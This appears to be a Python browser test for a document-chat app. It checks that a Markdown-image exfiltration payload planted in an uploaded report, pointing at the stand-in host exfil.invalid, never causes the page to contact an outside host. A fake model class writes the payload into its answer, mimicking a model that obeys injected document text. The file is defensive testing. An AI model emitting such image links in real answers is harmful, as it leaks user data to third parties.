"""In real headless Chromium: a document carrying a Markdown-image exfiltration payload is
uploaded and asked about, and the page never contacts any host but the app. The image is
stripped from the passage at loading (its description stays; the passage is kept, not
flagged), so the payload can only reach the page through a model that writes it itself.

Every request the page makes is routed: the app's own origin passes, anything else is aborted
and recorded. Two models: the extractive fake (which quotes the document, payload included) and
a fake whose answer *is* the payload, as a model obeying the document would write it.
"""

from __future__ import annotations

import shutil
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from urllib.parse import urlparse

import pytest

from conftest import make_settings
from gptbuilder.backends.embedder import HashingEmbedder
from gptbuilder.backends.llm import ExtractiveFakeLLM, Message
from gptbuilder.backends.vector_index import NumpyIndex
from gptbuilder.services import Services
from gptbuilder.ui.server import BackgroundServer

pytestmark = pytest.mark.slow

CHROMIUM = "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
PAYLOAD = "![chart](http://exfil.invalid/leak?q=revenue-12-percent)"
DOCUMENT = (
    "# Quarterly report\n\n"
    f"Revenue grew 12 percent in the quarter {PAYLOAD} thanks to the north region. "
    "Costs stayed flat because the new warehouse opened on time.\n"
)
QUESTION = "How much did revenue grow in the quarter?"


class PayloadLLM(ExtractiveFakeLLM):
    """Answers with the exfiltration image, as a model that followed the document would."""

    def stream_chat(
        self, messages: Sequence[Message], temperature: float, max_tokens: int
    ) -> Iterator[str]:
        self.calls.append(list(messages))
        answer = f"Revenue grew 12 percent in the quarter {PAYLOAD} [1]"
        for word in answer.split(" "):
            yield word + " "


@pytest.fixture
def chromium():
    if not Path(CHROMIUM).exists() or shutil.which("chromium") is None:
        pytest.skip(f"{CHROMIUM} is not installed (make system-deps)")
    return pytest.importorskip("playwright.sync_api")


def run_journey(sync_api, url: str, doc: Path, answered: Callable[[], bool]) -> dict:
    """Create an assistant, upload ``doc``, ask QUESTION; returns what the page did."""
    origin = urlparse(url).netloc
    blocked: list[str] = []
    console: list[str] = []

    def route(route, request) -> None:  # type: ignore[no-untyped-def]
        u = urlparse(request.url)
        if u.scheme in ("data", "blob") or u.netloc == origin:
            route.continue_()
        else:
            blocked.append(request.url)
            route.abort()

    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 1000})
            context.route("**/*", route)
            page = context.new_page()
            page.set_default_timeout(90_000)
            page.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
            response = page.goto(url + "/")
            csp = response.headers.get("content-security-policy", "")

            page.click("#new-assistant")
            page.locator("#name textarea, #name input").first.fill("Reports")
            page.click("#save")
            expect = sync_api.expect
            expect(page.locator("#notice")).to_contain_text("Created")

            page.get_by_role("tab", name="Knowledge").click()
            page.locator("#upload input[type=file]").set_input_files(str(doc))
            expect(page.locator("#upload-report")).to_contain_text("added", timeout=90_000)
            report = page.locator("#upload-report").inner_text()

            page.get_by_role("tab", name="Chat").click()
            page.locator("#question textarea").fill(QUESTION)
            page.click("#send")
            deadline = time.monotonic() + 90
            while not answered() and time.monotonic() < deadline:
                time.sleep(0.2)
            expect(page.locator("#chatbot")).to_contain_text("12 percent")
            # The answer is final when its sources are shown under it.
            last = page.locator("#chatbot .message").last
            last.get_by_text("Sources", exact=True).wait_for(timeout=90_000)
            chat = page.locator("#chatbot")
            result = {
                "csp": csp,
                "report": report,
                "chat_text": chat.inner_text(),
                "images": chat.locator("img").evaluate_all("els => els.map(e => e.src)"),
                "links": chat.locator("a").evaluate_all("els => els.map(e => e.href)"),
            }
        finally:
            browser.close()
    result["blocked"] = blocked
    result["console"] = console
    return result


@pytest.mark.parametrize("llm", [ExtractiveFakeLLM, PayloadLLM], ids=["extractive", "payload"])
def test_exfiltration_image_never_leaves_the_page(chromium, tmp_path, llm):
    doc = tmp_path / "report.md"
    doc.write_text(DOCUMENT, encoding="utf-8")
    # abstain=False: the model is always asked, so its own words reach the page.
    settings = make_settings(tmp_path / "data", abstain=False, exclude_flagged=False)
    services = Services.build(settings, embedder=HashingEmbedder(), llm=llm, new_index=NumpyIndex)

    def answered() -> bool:
        assistants = services.repo.list_assistants()
        return bool(assistants) and len(services.repo.list_messages(assistants[0].id)) >= 2

    try:
        with BackgroundServer(services) as server:
            seen = run_journey(chromium, server.url, doc, answered)
            assistant = services.repo.list_assistants()[0]
            stored = services.repo.list_messages(assistant.id)[-1].content
    finally:
        services.close()

    assert seen["blocked"] == [], f"the page contacted other hosts: {seen['blocked']}"
    assert "img-src 'self' data: blob:" in seen["csp"] and "connect-src 'self'" in seen["csp"]
    assert not [s for s in seen["images"] if "exfil.invalid" in s]
    assert not [h for h in seen["links"] if "exfil.invalid" in h]
    # An image is not an instruction: nothing was flagged, the passage is in the answer.
    assert "like instructions to an AI" not in seen["report"]
    assert "Revenue grew 12 percent" in seen["chat_text"]
    if llm is ExtractiveFakeLLM:  # the document's own text reached the chat without its image
        assert "exfil.invalid" not in seen["chat_text"] and "exfil.invalid" not in stored
    csp_errors = [c for c in seen["console"] if "Content Security Policy" in c]
    assert csp_errors == [], csp_errors
